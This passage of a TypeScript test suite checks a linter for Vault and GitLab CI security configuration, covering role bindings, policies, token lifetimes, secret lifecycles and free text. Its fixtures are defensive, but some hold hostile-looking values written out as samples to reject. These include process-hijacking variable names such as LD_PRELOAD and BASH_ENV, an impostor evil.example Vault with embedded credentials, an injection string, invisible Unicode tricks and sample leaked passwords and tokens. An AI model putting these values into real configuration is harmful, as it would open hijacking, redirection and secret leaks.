  ["VAR-003", "a key that starts with a digit", (i) => (i.tf.resource.gitlab_group_variable.x = { ...vaultAddr(i), key: "2FA_SEED" }), 'gitlab_group_variable.x.key: "2FA_SEED" is not an allowed key'],
  ["VAR-003", "a hyphen in the key", (i) => (i.tf.resource.gitlab_group_variable.x = { ...vaultAddr(i), key: "VAULT-ADDR" }), 'gitlab_group_variable.x.key: "VAULT-ADDR" is not an allowed key'],
  ["VAR-004", "a path and key that make BASH_ENV", (i) => (i.config.roles[0].reads = [{ path: "bash", keys: ["env"] }]), 'roles[0].reads[0].path: "bash" key env: would be read into BASH_ENV, which a shell, a runtime or GitLab reads as an instruction'],
  ["VAR-004", "a path and key that make LD_PRELOAD", (i) => (i.config.roles[0].reads = [{ path: "ld", keys: ["preload"] }]), 'roles[0].reads[0].path: "ld" key preload: would be read into LD_PRELOAD, and LD_* names are read by a shell, a runtime, the runner or GitLab, or reserved by this template'],
  ["VAR-004", "a path and key that make NODE_OPTIONS", (i) => (i.config.roles[0].reads = [{ path: "node", keys: ["options"] }]), 'roles[0].reads[0].path: "node" key options: would be read into NODE_OPTIONS, and NODE_* names are read by a shell, a runtime, the runner or GitLab, or reserved by this template'],
  ["VAR-004", "a path GitLab reserves (CI_*)", (i) => (i.config.roles[0].reads = [{ path: "ci/job", keys: ["token"] }]), 'roles[0].reads[0].path: "ci/job" key token: would be read into CI_JOB_TOKEN, and CI_* names are read by a shell, a runtime, the runner or GitLab, or reserved by this template'],
  ["VAR-004", "a path that starts with a digit", (i) => (i.config.roles[0].reads = [{ path: "9lives/app", keys: ["token"] }]), 'roles[0].reads[0].path: "9lives/app" key token: would be read into "9LIVES_APP_TOKEN", which is not a variable name (upper-case letters, digits and _, starting with a letter)'],
  ["DATA-001", "a secret without prevent_destroy", (i) => delete secret(i).lifecycle, "vault_kv_secret_v2.svc-executor.lifecycle.prevent_destroy: is not true"],
  ["DATA-001", "a managed KV mount without prevent_destroy", (i) => {
    inData((c) => (c.vault.manageKvMount = true))(i);
    delete i.tf.resource.vault_mount.kv.lifecycle;
  }, "vault_mount.kv.lifecycle.prevent_destroy: is not true"],
  ["DATA-001", "the auth backend without prevent_destroy", (i) => (backend(i).lifecycle.prevent_destroy = false), "vault_jwt_auth_backend.jwt.lifecycle.prevent_destroy: is not true"],
  ["DATA-001", "an auth backend that would remount", (i) => delete backend(i).disable_remount, "vault_jwt_auth_backend.jwt.disable_remount: is not true: a new path would remount the method instead of failing the plan"],
  ["DATA-001", "no account guard", (i) => delete i.tf.resource.terraform_data, "terraform_data.account_guard: must exist with lifecycle.prevent_destroy: without it, deleting an account entry deletes its secret"],
  ["DATA-001", "an account the guard does not list", (i) => delete i.tf.resource.terraform_data.account_guard.for_each["svc-executor"], "terraform_data.account_guard.for_each: has no instance for accounts[1] svc-executor"],
  ["DATA-001", "a removed block that destroys", (i) => ((i.tf as any).removed = [{ from: "vault_mount.kv", lifecycle: { destroy: true } }]), "removed[0].lifecycle.destroy: is not false: Terraform would destroy vault_mount.kv"],
  ["POL-007", "a project-scoped role's secret also read by the group-wide role", inData((c) => {
    c.roles.push({ ...c.roles[0], name: "executor-ci", boundClaims: { project_id: "77" }, reads: [] });
    c.accounts[1].readers.push("executor-ci");
  }), 'vault_policy.kv-read_secret_nexus_svc-executor.policy: lets group-wide role nexus-ci read "secret/data/nexus/svc-executor", which project-scoped role executor-ci reads'],
  ["ADOPT-001", "adoption while Terraform would write the passwords", inData((c) => (c.adopt = { create: [] })), [
    "accounts[0].passwordVersion: is 1: the first apply would write a new password to secret/nexus/svc-orchestrator, replacing the one in production",
    "accounts[1].passwordVersion: is 1: the first apply would write a new password to secret/nexus/svc-executor, replacing the one in production",
    "accounts[2].passwordVersion: is 1: the first apply would write a new password to secret/nexus/svc-deployer, replacing the one in production",
  ]],
  ["ADOPT-002", "an import of a KV secret", (i) => (i.tf.import = [{ to: "vault_kv_secret_v2.svc-executor", id: "secret/data/nexus/svc-executor" }]), "import[0].to: imports the KV secret vault_kv_secret_v2.svc-executor"],
  ["ADOPT-002", "an import into no declared resource", (i) => (i.tf.import = [{ to: "vault_policy.nexus-read-policy", id: "nexus-read-policy" }]), 'import[0].to: "vault_policy.nexus-read-policy" is not a resource of this stack'],
  ["ADOPT-002", "an import without a target", (i) => (i.tf.import = [{ id: "jwt" }]), "import[0].to: null is not a resource of this stack"],
  ["ADOPT-002", "an import without an id", (i) => (i.tf.import = [{ to: "vault_jwt_auth_backend.jwt" }]), "import[0].id: is empty"],
  ["ADOPT-003", "adopt.create naming no resource", inData((c) => (c.adopt = { create: ["vault_policy.nexus-read-policy"] })), 'adopt.create[0]: "vault_policy.nexus-read-policy" is not a resource of this stack'],
  ["ADOPT-003", "adopt.create naming a resource type the stack has none of", inData((c) => (c.adopt = { create: ["vault_approle_auth_backend_role.deploy"] })), 'adopt.create[0]: "vault_approle_auth_backend_role.deploy" is not a resource of this stack'],
  ["NAME-002", "a pipeline role named like the reader role", withPipeline((i) => (pipelineRole(i, "plan").role_name = "nexus-ci")), `${PLAN_ROLE}.role_name: "nexus-ci" is already declared by vault_jwt_auth_backend_role.nexus-ci`],
  ["PIPE-001", "an oidc plan role", withPipeline((i) => (pipelineRole(i, "plan").role_type = "oidc")), `${PLAN_ROLE}.role_type: is "oidc", must be "jwt"`],
  ["PIPE-002", "an apply role without audiences", withPipeline((i) => (pipelineRole(i, "apply").bound_audiences = [])), `${APPLY_ROLE}.bound_audiences: is empty: any token audience would be accepted`],
  ["PIPE-002", "an http audience", withPipeline((i) => (pipelineRole(i, "plan").bound_audiences = ["http://gitlab.shared.cwiq.io"])), `${PLAN_ROLE}.bound_audiences: "http://gitlab.shared.cwiq.io" is not an https URL`],
  ["PIPE-002", "an audience with a leading space", withPipeline((i) => (pipelineRole(i, "plan").bound_audiences = [" https://gitlab.shared.cwiq.io"])), `${PLAN_ROLE}.bound_audiences: " https://gitlab.shared.cwiq.io" is not an https URL`],
  ["PIPE-002", "an audience with a trailing space", withPipeline((i) => (pipelineRole(i, "plan").bound_audiences = ["https://gitlab.shared.cwiq.io "])), `${PLAN_ROLE}.bound_audiences: "https://gitlab.shared.cwiq.io " is not an https URL`],
  ["PIPE-003", "the group (namespace_id) instead of the project", withPipeline((i) => (pipelineRole(i, "plan").bound_claims = { namespace_id: "9" })), [
    `${PLAN_ROLE}.bound_claims.project_id: is null, must be exactly pipeline.projectId "4242"`,
    `${PLAN_ROLE}.bound_claims.namespace_id: a plan role binds only project_id`,
  ]],
  ["PIPE-003", "an extra claim beside the project", withPipeline((i) => (pipelineRole(i, "plan").bound_claims.namespace_id = "9")), `${PLAN_ROLE}.bound_claims.namespace_id: a plan role binds only project_id`],
  ["PIPE-003", "two projects", withPipeline((i) => (pipelineRole(i, "apply").bound_claims.project_id = "4242,4243")), [
    `${APPLY_ROLE}.bound_claims.project_id: is "4242,4243", must be exactly pipeline.projectId "4242"`,
    `${APPLY_ROLE}.bound_claims.project_id: "4242,4243" is not one exact value`,
  ]],
  ["PIPE-003", "glob claims", withPipeline((i) => (pipelineRole(i, "apply").bound_claims_type = "glob")), `${APPLY_ROLE}.bound_claims_type: is "glob", must be "string"`],
  ["PIPE-003", "a negative project id in the data file and both roles (the rule does not rely on the schema)", withPipeline(projectIdEverywhere(-4242)), [
    `${PLAN_ROLE}.bound_claims.project_id: is "-4242", must be exactly pipeline.projectId "-4242"`,
    `${APPLY_ROLE}.bound_claims.project_id: is "-4242", must be exactly pipeline.projectId "-4242"`,
  ]],
  ["PIPE-003", "a decimal project id in the data file and both roles", withPipeline(projectIdEverywhere(4242.5)), [
    `${PLAN_ROLE}.bound_claims.project_id: is "4242.5", must be exactly pipeline.projectId "4242.5"`,
    `${APPLY_ROLE}.bound_claims.project_id: is "4242.5", must be exactly pipeline.projectId "4242.5"`,
  ]],
  ["PIPE-003", "a namespace beside the apply role's project", withPipeline((i) => (pipelineRole(i, "apply").bound_claims.namespace_id = "9")), `${APPLY_ROLE}.bound_claims.namespace_id: a apply role binds only project_id, ref_protected, ref, ref_type`],
  ["PIPE-003", "a branch with surrounding whitespace", withPipeline((i) => (pipelineRole(i, "apply").bound_claims.ref = " main")), `${APPLY_ROLE}.bound_claims.ref: " main" is not one exact value`],
  ["PIPE-003", "an empty branch", withPipeline((i) => (pipelineRole(i, "apply").bound_claims.ref = "")), `${APPLY_ROLE}.bound_claims.ref: "" is not one exact value`],
  ["PIPE-004", "an apply role for unprotected refs", withPipeline((i) => delete pipelineRole(i, "apply").bound_claims.ref_protected), `${APPLY_ROLE}.bound_claims.ref_protected: is null, must be "true"`],
  ["PIPE-004", "an apply role without bound claims", withPipeline((i) => delete pipelineRole(i, "apply").bound_claims), `${APPLY_ROLE}.bound_claims.ref_protected: is null, must be "true"`],
  ["PIPE-005", "a plan policy that reads a secret", withPipeline((i) => (pipelinePolicy(i, "plan").policy = readPolicy("secret/data/nexus/svc-orchestrator"))), `${PLAN_POLICY}: plan role vault-ci-access-plan: "secret/data/nexus/svc-orchestrator" reaches a secret value`],
  ["PIPE-005", "a plan policy glob over the KV mount", withPipeline((i) => (pipelinePolicy(i, "plan").policy = readPolicy("secret/*"))), [
    `${PLAN_POLICY}: plan role vault-ci-access-plan: "secret/*" is a glob`,
    `${PLAN_POLICY}: plan role vault-ci-access-plan: "secret/*" reaches a secret value`,
  ]],
  ["PIPE-005", "a plan policy that writes", withPipeline((i) => (pipelinePolicy(i, "plan").policy = readPolicy("auth/jwt/role/nexus-ci", '"read", "update"'))), `${PLAN_POLICY}: plan role vault-ci-access-plan: grants ["update"] on "auth/jwt/role/nexus-ci", only read`],
  ["PIPE-005", "a plan policy on a KV v1-style path of the KV mount", withPipeline((i) => (pipelinePolicy(i, "plan").policy = readPolicy("secret/nexus/svc-executor"))), `${PLAN_POLICY}: plan role vault-ci-access-plan: "secret/nexus/svc-executor" reaches a secret value`],
  ["PIPE-005", "a plan policy reading another KV v2 mount's data", withPipeline((i) => (pipelinePolicy(i, "plan").policy = readPolicy("kv/data/app"))), `${PLAN_POLICY}: plan role vault-ci-access-plan: "kv/data/app" reaches a secret value`],
  ["PIPE-005", "a plan policy on raw storage", withPipeline((i) => (pipelinePolicy(i, "plan").policy = readPolicy("sys/raw/logical"))), `${PLAN_POLICY}: plan role vault-ci-access-plan: "sys/raw/logical" reaches a secret value`],
  ["PIPE-005", "a plan policy on a cubbyhole", withPipeline((i) => (pipelinePolicy(i, "plan").policy = readPolicy("cubbyhole/notes"))), `${PLAN_POLICY}: plan role vault-ci-access-plan: "cubbyhole/notes" reaches a secret value`],
  ["PIPE-005", "sudo in the plan policy", withPipeline((i) => (pipelinePolicy(i, "plan").policy = readPolicy("sys/mounts/auth/jwt", '"read", "sudo"'))), `${PLAN_POLICY}: plan role vault-ci-access-plan: grants ["sudo"] on "sys/mounts/auth/jwt", only read`],
  ["PIPE-005", "a plan policy that is not plain path blocks", withPipeline((i) => (pipelinePolicy(i, "plan").policy = 'path "sys/auth" {\n  capabilities = ["read"]\n  allowed_parameters = {}\n}\n')), `${PLAN_POLICY}: is not a list of path blocks with capabilities`],
  ["PIPE-006", "a 4-hour apply token", withPipeline((i) => (pipelineRole(i, "apply").token_max_ttl = 14400)), `${APPLY_ROLE}.token_max_ttl: is 14400s, must be between 1s and 3600s`],
  ["PIPE-006", "a periodic plan token", withPipeline((i) => (pipelineRole(i, "plan").token_period = 600)), `${PLAN_ROLE}.token_period: is 600: periodic tokens never expire`],
  ["PIPE-006", "a plan role without token_ttl", withPipeline((i) => delete pipelineRole(i, "plan").token_ttl), `${PLAN_ROLE}.token_ttl: is 0: unset means Vault's system default (32 days)`],
  ["PIPE-006", "a plan role without token_max_ttl", withPipeline((i) => delete pipelineRole(i, "plan").token_max_ttl), [
    `${PLAN_ROLE}.token_max_ttl: is 0s, must be between 1s and 3600s`,
    `${PLAN_ROLE}.token_ttl: 900s exceeds token_max_ttl 0s`,
  ]],
  ["PIPE-006", "a TTL one second above the max TTL", withPipeline((i) => (pipelineRole(i, "plan").token_ttl = 1801)), `${PLAN_ROLE}.token_ttl: 1801s exceeds token_max_ttl 1800s`],
  ["PIPE-006", "an explicit max TTL above the ceiling", withPipeline((i) => (pipelineRole(i, "apply").token_explicit_max_ttl = 3601)), `${APPLY_ROLE}.token_explicit_max_ttl: is 3601s, above the 3600s ceiling`],
  ["PIPE-008", "a CI role reading the documented GitLab token path, no pipeline section", inData((c) => c.roles[0].reads.push({ path: "ci/vault-ci-access/gitlab-token", keys: ["token"], usedBy: "x" })), 'roles[0].reads[4].path: "ci/vault-ci-access/gitlab-token": CI role nexus-ci may not read "ci/vault-ci-access/gitlab-token" and its folder "ci/vault-ci-access/", reserved for the pipeline roles'],
  ["PIPE-008", "a CI role reading another secret of the GitLab token's folder", withPipeline(inData((c) => c.roles[0].reads.push({ path: "ci/vault-ci-access/other", keys: ["token"], usedBy: "x" }))), 'roles[0].reads[4].path: "ci/vault-ci-access/other": CI role nexus-ci may not read "ci/vault-ci-access/gitlab-token" and its folder "ci/vault-ci-access/", reserved for the pipeline roles'],
  ["PIPE-008", "a CI policy globbing the GitLab token's folder", (i) => (policy(i).policy = readPolicy("secret/data/ci/*")), 'vault_policy.kv-read_secret_nexus_svc-orchestrator.policy: lets CI role nexus-ci (vault_jwt_auth_backend_role.nexus-ci) read "secret/data/ci/*": "ci/vault-ci-access/gitlab-token" and its folder "ci/vault-ci-access/" are reserved for the pipeline roles'],
  ["PIPE-007", "an apply policy missing a managed path", withPipeline((i) => (pipelinePolicy(i, "apply").policy = pipelinePolicy(i, "apply").policy.replace(/path "auth\/jwt\/role\/nexus-ci" \{[^}]*\}\n/, ""))), `${APPLY_POLICY}: apply role vault-ci-access-apply needs exactly [create,delete,read,update] on "auth/jwt/role/nexus-ci", has []`],
  ["PIPE-007", "an apply policy granting more than needed", withPipeline((i) => (pipelinePolicy(i, "apply").policy += readPolicy("sys/mounts/secret", '"delete"'))), `${APPLY_POLICY}: apply role vault-ci-access-apply grants "sys/mounts/secret", which no managed resource needs`],
  ["PIPE-007", "the default policy on a pipeline role", withPipeline((i) => (pipelineRole(i, "plan").token_policies = ["default", "pipeline.vault-ci-access-plan"])), `${PLAN_ROLE}.token_policies: is ["default","pipeline.vault-ci-access-plan"], must be exactly ["pipeline.vault-ci-access-plan"]`],
  ["PIPE-007", "a Vault resource the capability table does not know", withPipeline((i) => (i.tf.resource.vault_approle_auth_backend_role = { x: {} })), "vault_approle_auth_backend_role.x: is a Vault resource the pipeline roles have no capabilities for (PROVIDER_NEEDS)"],
  ["PIPE-007", "a plan role with another policy instead of its own", withPipeline((i) => (pipelineRole(i, "plan").token_policies = ["kv-read.secret.nexus.svc-executor"])), [
    `${PLAN_ROLE}.token_policies: is ["kv-read.secret.nexus.svc-executor"], must be exactly ["pipeline.vault-ci-access-plan"]`,
    `${PLAN_ROLE}.token_policies: policy "pipeline.vault-ci-access-plan" is not declared in this stack`,
  ]],
  ["PIPE-007", "a plan role that also carries a reader policy (whose paths are not compared)", withPipeline((i) => pipelineRole(i, "plan").token_policies.push("kv-read.secret.nexus.svc-executor")), `${PLAN_ROLE}.token_policies: is ["pipeline.vault-ci-access-plan","kv-read.secret.nexus.svc-executor"], must be exactly ["pipeline.vault-ci-access-plan"]`],
  ["PIPE-007", "a pipeline role without token_policies", withPipeline((i) => delete pipelineRole(i, "apply").token_policies), [
    `${APPLY_ROLE}.token_policies: is [], must be exactly ["pipeline.vault-ci-access-apply"]`,
    `${APPLY_ROLE}.token_policies: policy "pipeline.vault-ci-access-apply" is not declared in this stack`,
  ]],
  ["PIPE-007", "a pipeline role whose policy the stack does not declare", withPipeline((i) => delete i.tf.resource.vault_policy["pipeline_vault-ci-access-plan"]), [
    `${PLAN_ROLE}.token_policies: policy "pipeline.vault-ci-access-plan" is not declared in this stack`,
    `${APPLY_POLICY}: apply role vault-ci-access-apply grants "sys/policies/acl/pipeline.vault-ci-access-plan", which no managed resource needs`,
  ]],
  ["PIPE-007", "the default policy through token_no_default_policy", withPipeline((i) => (pipelineRole(i, "apply").token_no_default_policy = false)), `${APPLY_ROLE}.token_no_default_policy: is not true: tokens would get the default policy`],
  // Workload-only secrets, read paths, trust anchors, free text (issue 13).
  ["POL-008", "a CI role among a workloadOnly account's readers", inData((c) => c.accounts[2].readers.push("nexus-ci")), ["accounts[2].readers[2]: CI role nexus-ci may not read svc-deployer, which is workloadOnly", "vault_policy.kv-read_secret_nexus_svc-deployer.policy: lets nexus-ci (vault_jwt_auth_backend_role.nexus-ci) read svc-deployer's secret, which is workloadOnly"]],
  ["POL-008", "readers emptied, a glob policy path covering the secret", (i) => {
    i.tf.resource.vault_policy["kv-read_secret_sonarqube_svc-orchestrator"].policy = 'path "secret/data/nexus/*" {\n  capabilities = ["read"]\n}\n';
  }, "vault_policy.kv-read_secret_sonarqube_svc-orchestrator.policy: lets nexus-ci (vault_jwt_auth_backend_role.nexus-ci) read svc-deployer's secret, which is workloadOnly"],
  ["POL-009", "a path with data/", inData((c) => (c.roles[0].reads[0].path = "data/sonarqube/svc-orchestrator")), 'roles[0].reads[0].path: "data/sonarqube/svc-orchestrator" would be read at secret/data/data/sonarqube/svc-orchestrator: did you mean "sonarqube/svc-orchestrator"?'],
  ["POL-009", "a path with the mount and data/", inData((c) => (c.roles[0].reads[0].path = "secret/data/sonarqube/x")), 'roles[0].reads[0].path: "secret/data/sonarqube/x" would be read at secret/data/secret/data/sonarqube/x: did you mean "sonarqube/x"?'],
  ["POL-009", "a path with metadata/", inData((c) => (c.roles[0].reads[0].path = "metadata/a")), 'roles[0].reads[0].path: "metadata/a" would be read at secret/data/metadata/a: did you mean "a"?'],
  ["POL-009", "an undeclared nexus/ account", inData((c) => (c.roles[0].reads[0].path = "nexus/svc-deployr")), 'roles[0].reads[0].path: "nexus/svc-deployr" is under nexus/, which holds only declared accounts\' secrets: did you mean account svc-deployer (list the role in its readers)?'],
  ["POL-009", "a deeper nexus/ path", inData((c) => (c.roles[0].reads[0].path = "nexus/a/b")), 'roles[0].reads[0].path: "nexus/a/b" is under nexus/, which holds only declared accounts\' secrets (accounts: svc-orchestrator, svc-executor, svc-deployer)'],
  ["TRUST-001", "another GitLab and Vault", (i) => {
    i.config.gitlab.url = "https://gitlab.evil.example";
    i.config.vault.url = "https://u:p@vault.evil.example";
    i.config.gitlab.groupId = 10;
    i.config.vault.jwtMount = "jwt2";
  }, [
    'gitlab.url: "https://gitlab.evil.example" is not trust.yaml\'s "https://gitlab.shared.cwiq.io"',
    "gitlab.groupId: 10 is not trust.yaml's 9",
    'vault.url: "https://***@vault.evil.example" is not trust.yaml\'s "https://vault.shared.cwiq.io"',
    'vault.jwtMount: "jwt2" is not trust.yaml\'s "jwt"',
  ]],
  ["TRUST-002", "an audience trust.yaml does not list", (i) => i.config.roles[0].audiences.push("https://other.example"), 'roles[0].audiences[1]: "https://other.example" is not an audience of trust.yaml (https://gitlab.shared.cwiq.io)'],
  ["TRUST-003", "another namespace, a project, a pipeline project", (i) => {
    i.config.roles[0].boundClaims = { namespace_id: "10", project_id: "77" };
    i.config.pipeline = { projectId: 4242, plan: { name: "p", audiences: [], tokenTtl: "15m", tokenMaxTtl: "30m" }, apply: { name: "a", audiences: [], tokenTtl: "15m", tokenMaxTtl: "30m" }, gitlabTokenPath: "x" };
  }, [
    'roles[0].boundClaims.namespace_id: "10" is not among trust.yaml\'s namespaceIds (9)',
    'roles[0].boundClaims.project_id: "77" is not among trust.yaml\'s projectIds (none)',
    "pipeline.projectId: 4242 is not among trust.yaml's projectIds (none)",
  ]],
  ["TRUST-004", "tokens above the limits", (i) => {
    Object.assign(i.config.roles[0], { tokenTtl: "61m", tokenMaxTtl: "2h", tokenNumUses: 51 });
    i.config.pipeline = { projectId: 4242, plan: { name: "p", audiences: [], tokenTtl: "15m", tokenMaxTtl: "3601s" }, apply: { name: "a", audiences: [], tokenTtl: "15m", tokenMaxTtl: "1h" }, gitlabTokenPath: "x" };
  }, [
    "roles[0].tokenTtl: 61m is above trust.yaml's maxTokenTtl 1h",
    "roles[0].tokenMaxTtl: 2h is above trust.yaml's maxTokenTtl 1h",
    "pipeline.plan.tokenMaxTtl: 3601s is above trust.yaml's maxTokenTtl 1h",
    "roles[0].tokenNumUses: 51 is above trust.yaml's maxTokenNumUses 50",
  ]],
  ["TEXT-001", "a line break, a tab and a long text", (i) => {
    i.config.roles[0].reads[0].usedBy = "scan\n```\ninjected";
    i.config.workloads[0].description = "a\tb";
    i.config.accounts[0].justification = "x".repeat(201);
    i.config.accounts[1].suppress = [{ rule: "ADOPT-001", reason: "new\u2028line" }];
    i.config.roles[0].suppress = [{ rule: "POL-007", reason: "y".repeat(200) }];
  }, [
    "roles[0].reads[0].usedBy: is not one line of printable text (line breaks, tabs and control characters are refused)",
    "workloads[0].description: is not one line of printable text (line breaks, tabs and control characters are refused)",
    "accounts[0].justification: is 201 characters long, at most 200 are allowed",
    "accounts[1].suppress[0].reason: is not one line of printable text (line breaks, tabs and control characters are refused)",
  ]],
  ["TEXT-001", "a zero-width space, a right-to-left override, a no-break space and a text of blanks", (i) => {
    i.config.roles[0].description = "shared\u200b by every pipeline";
    i.config.workloads[0].description = "pods \u202Eetats ni";
    i.config.accounts[0].usedBy = "all\u00a0builds";
    i.config.roles[0].reads[0].usedBy = " - ";
  }, [
    expect.stringMatching(/^roles\[0\]\.description: holds U\+200B at character 7, an invisible, format, private-use or blank look-alike character: only visible characters and the plain space \(U\+0020\) are allowed/),
    "roles[0].reads[0].usedBy: has no visible letter or digit: write what it is for",
    expect.stringMatching(/^workloads\[0\]\.description: holds U\+202E at character 6, /),
    expect.stringMatching(/^accounts\[0\]\.usedBy: holds U\+00A0 at character 4, /),
  ]],
  ["TEXT-002", "a 16-character random token after an account name", (i) => (i.config.accounts[0].usedBy = "svc-orchestrator q7RkX2mZp9LwT4vB"), "accounts[0].usedBy: holds a high-entropy token at character 18 (a key or token?)"],
  ["ACC-003", "a password written as prose", (i) => (i.data.accounts[0].usedBy = "builds; the password is Winter2024!"), "accounts[0].usedBy: looks like a password written as prose"],
  ["ACC-003", "a random-looking token", (i) => (i.data.roles[0].description = "uses dGhpc2lzYXNlY3JldDEyMwXyZ for login"), "roles[0].description: looks like a random-looking string (a key or token?)"],
  ["ACC-003", "a token in a URL query", (i) => (i.data.roles[0].description = "see https://x.example/a?private_token=abc"), "roles[0].description: looks like a credential in a URL query"],
];

describe("every rule of the pack", () => {
  it("has an id, an explanation, a fix hint and at least one non-compliant fixture", () => {
    const ids = RULES.map((r) => r.id);
    expect(new Set(ids).size).toBe(ids.length);
    for (const rule of RULES) {
      expect(rule.id).toMatch(/^[A-Z]+-[0-9]{3}$/);
      expect(rule.explanation.length).toBeGreaterThan(30);
      expect(rule.fix.length).toBeGreaterThan(10);
    }
    expect([...new Set(NON_COMPLIANT.map(([id]) => id))].sort()).toEqual([...ids].sort());
  });

  it.each(RULES.map((r) => [r.id]))("%s finds nothing on the default CWIQ configuration (compliant fixture)", (id) => {
    expect(findings(id)).toEqual([]);
  });
});

describe.each(NON_COMPLIANT)("%s rejects %s", (id, _what, mutate, expected) => {
  it("with a finding that names the field and the value", () => {
    expect(findings(id, mutate)).toEqual(typeof expected === "string" ? [expected] : expected);
  });
});

describe("compliant variations", () => {
  it("JWT-002 accepts an https audience with a path", () => {
    expect(findings("JWT-002", (i) => (role(i).bound_audiences = ["https://vault.shared.cwiq.io/v1/auth/jwt"]))).toEqual([]);
  });

  it("JWT-003 accepts a multi-digit id", () => {
    expect(findings("JWT-003", (i) => (role(i).bound_claims = { project_id: "4242" }))).toEqual([]);
  });

  it("JWT-004 leaves a role with no mutable and no id claim to JWT-003", () => {
    expect(findings("JWT-004", (i) => (role(i).bound_claims = { ref_protected: "true" }))).toEqual([]);
  });

  it("JWT-009 and JWT-010 accept lifetimes at the one-hour ceiling, with the TTL equal to the max TTL", () => {
    const atCeiling = (i: MutableInput) => Object.assign(role(i), { token_ttl: 3600, token_max_ttl: 3600, token_explicit_max_ttl: 3600 });
    expect(findings("JWT-009", atCeiling)).toEqual([]);
    expect(findings("JWT-010", atCeiling)).toEqual([]);
  });

  it("JWT-010 accepts exactly as many uses as the role has paths", () => {
    expect(findings("JWT-010", (i) => (role(i).token_num_uses = 6))).toEqual([]);
  });

  it("JWT-013 accepts a project id that is not the group id, and the group id as namespace_id", () => {
    expect(findings("JWT-013", (i) => (role(i).bound_claims = { project_id: "90", namespace_id: "9" }))).toEqual([]);
  });

  it("JWT-013 leaves a role without bound claims to JWT-003", () => {
    expect(findings("JWT-013", (i) => delete role(i).bound_claims)).toEqual([]);
  });

  it("JWT-011 leaves root and default to JWT-008 instead of reporting them twice", () => {
    expect(findings("JWT-011", (i) => role(i).token_policies.push("root", "default"))).toEqual([]);
  });

  it("JWT-012 accepts the pipeline roles the data file declares under pipeline", () => {
    expect(findings("JWT-012", withPipeline(() => {}))).toEqual([]);
  });

  it("AUTH-004 accepts an empty default_role (none)", () => {
    expect(findings("AUTH-004", (i) => (backend(i).default_role = ""))).toEqual([]);
  });

  it("AUTH rules leave auth methods of another type alone (an OIDC login for people is not GitLab CI's)", () => {
    const withOidc = (i: MutableInput) =>
      (i.tf.resource.vault_jwt_auth_backend.oidc = {
        path: "oidc",
        type: "oidc",
        bound_issuer: "https://accounts.example.com/",
        oidc_discovery_url: "https://login.example.com",
        jwks_url: "https://login.example.com/keys",
        default_role: "people",
      });
    for (const id of ["AUTH-001", "AUTH-002", "AUTH-003", "AUTH-004"]) expect([id, findings(id, withOidc)]).toEqual([id, []]);
  });

  it("VAR-001 and VAR-002 look at VAULT_ADDR only; VAR-003 accepts CI_ inside a key", () => {
    const otherVariable = (i: MutableInput) =>
      (i.tf.resource.gitlab_group_variable.OTHER = { ...vaultAddr(i), key: "NEXUS_CI_TOKEN_NAME", value: "not a URL", masked: true, protected: true, raw: false });
    for (const id of ["VAR-001", "VAR-002", "VAR-003"]) expect([id, findings(id, otherVariable)]).toEqual([id, []]);
  });

  it("ADOPT-001 and ADOPT-002 accept adoption with hand-set passwords: import blocks on declared resources, no secret", () => {
    const adopting = inData((c) => {
      c.adopt = { create: [] };
      for (const account of c.accounts) account.passwordVersion = 0;
    });
    expect(findings("ADOPT-001", adopting)).toEqual([]);
    expect(findings("ADOPT-002", adopting)).toEqual([]);
  });

  it("POL-007 accepts a project-scoped role whose secret no group-wide role reads", () => {
    expect(findings("POL-007", inData((c) => c.roles.push({ ...c.roles[0], name: "release-ci", boundClaims: { project_id: "42" }, reads: [{ path: "release/signing", keys: ["key"] }] })))).toEqual([]);
  });

  it("ACC-004 accepts a same-scope account that carries a written justification", () => {
    expect(
      findings("ACC-004", (i) =>
        i.config.accounts.push({ ...i.config.accounts[1], name: "svc-executor2", justification: "separate audit trail demanded by the customer contract" }),
      ),
    ).toEqual([]);
  });

  it("JWT-004 accepts a mutable claim that narrows an id binding", () => {
    expect(findings("JWT-004", (i) => (role(i).bound_claims.ref_protected = "true"))).toEqual([]);
    expect(findings("JWT-004", (i) => (role(i).bound_claims.project_path = "orchestrator/server"))).toEqual([]);
  });

  it("AUTH-002 and AUTH-003 accept a JWKS URL on the issuer's host instead of discovery", () => {
    const useJwks = (i: MutableInput) => {
      delete backend(i).oidc_discovery_url;
      backend(i).jwks_url = "https://gitlab.shared.cwiq.io/oauth/discovery/keys";
    };
    expect(findings("AUTH-002", useJwks)).toEqual([]);
    expect(findings("AUTH-003", useJwks)).toEqual([]);
  });

  it("PIPE rules find nothing on the example with pipeline roles, and no other rule objects to those roles", () => {
    const input = inputFor();
    withPipeline(() => {})(input);
    input.trust = trustFor("examples/with-pipeline.yaml");
    expect(checkConfiguration(asInput(input)).violations).toEqual([]);
    for (const rule of RULES.filter((r) => r.id.startsWith("PIPE-"))) expect([rule.id, rule.check(asInput(input))]).toEqual([rule.id, []]);
  });

  it("ACC-001 leaves KV secrets outside nexus/ alone", () => {
    expect(findings("ACC-001", (i) => (i.tf.resource.vault_kv_secret_v2.sonar = { ...secret(i), name: "sonarqube/svc-orchestrator" }))).toEqual([]);
  });

  it("ACC-003 reads empty, numeric and boolean values, and looks inside a mapping under a secret-like key", () => {
    expect(
      findings("ACC-003", (i) => {
        i.data.roles[0].description = null;
        i.data.vault.manageKvMount = true;
        i.data.roles[0].credentials = { source: "vault", rotatedEvery: 90 };
      }),
    ).toEqual([]);
  });

  it("POL-001 to POL-003 leave a policy they cannot read to POL-004, and POL-004 leaves an undeclared policy name to JWT-011", () => {
    const unreadable = (i: MutableInput) => (policy(i).policy = 'path "secret/data/a" {\n  capabilities = ["read"]\n  allowed_parameters = {}\n}\n');
    for (const id of ["POL-001", "POL-002", "POL-003"]) expect([id, findings(id, unreadable)]).toEqual([id, []]);
    expect(findings("POL-004", (i) => role(i).token_policies.push("nexus-read-policy"))).toEqual([]);
  });

  it("POL-007 counts a role without bound claims as group-wide (JWT-003 reports the missing binding)", () => {
    expect(findings("POL-007", (i) => delete role(i).bound_claims)).toEqual([]);
  });

  it("PIPE-002 accepts an audience with a path; PIPE-005 accepts KV metadata (no value); PIPE-006 accepts lifetimes at the ceiling", () => {
    expect(findings("PIPE-002", withPipeline((i) => (pipelineRole(i, "plan").bound_audiences = ["https://vault.shared.cwiq.io/v1/auth/jwt"])))).toEqual([]);
    expect(findings("PIPE-005", withPipeline((i) => (pipelinePolicy(i, "plan").policy = readPolicy("secret/metadata/nexus/svc-executor"))))).toEqual([]);
    const atCeiling = (i: MutableInput) => Object.assign(pipelineRole(i, "apply"), { token_ttl: 3600, token_max_ttl: 3600, token_explicit_max_ttl: 3600 });
    expect(findings("PIPE-006", withPipeline(atCeiling))).toEqual([]);
  });

